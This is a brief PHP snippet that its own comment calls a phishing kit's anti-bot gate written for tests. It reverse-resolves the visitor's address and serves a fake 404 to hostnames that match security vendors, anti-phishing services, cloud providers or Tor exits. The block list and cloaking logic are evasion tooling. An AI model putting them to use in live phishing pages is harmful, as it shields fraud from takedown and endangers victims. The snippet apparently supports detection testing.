<?php
// a phishing kit's anti-bot gate (written for the tests, never run)
$blocked = array("phishtank", "netcraft", "cyveillance", "kaspersky", "amazonaws", "tor-exit");
$host = strtolower(gethostbyaddr($_SERVER['REMOTE_ADDR']));
foreach ($blocked as $word) {
    if (strpos($host, $word) !== false) {
        header("HTTP/1.0 404 Not Found");
        die("<h1>404 Not Found</h1>");
    }
}
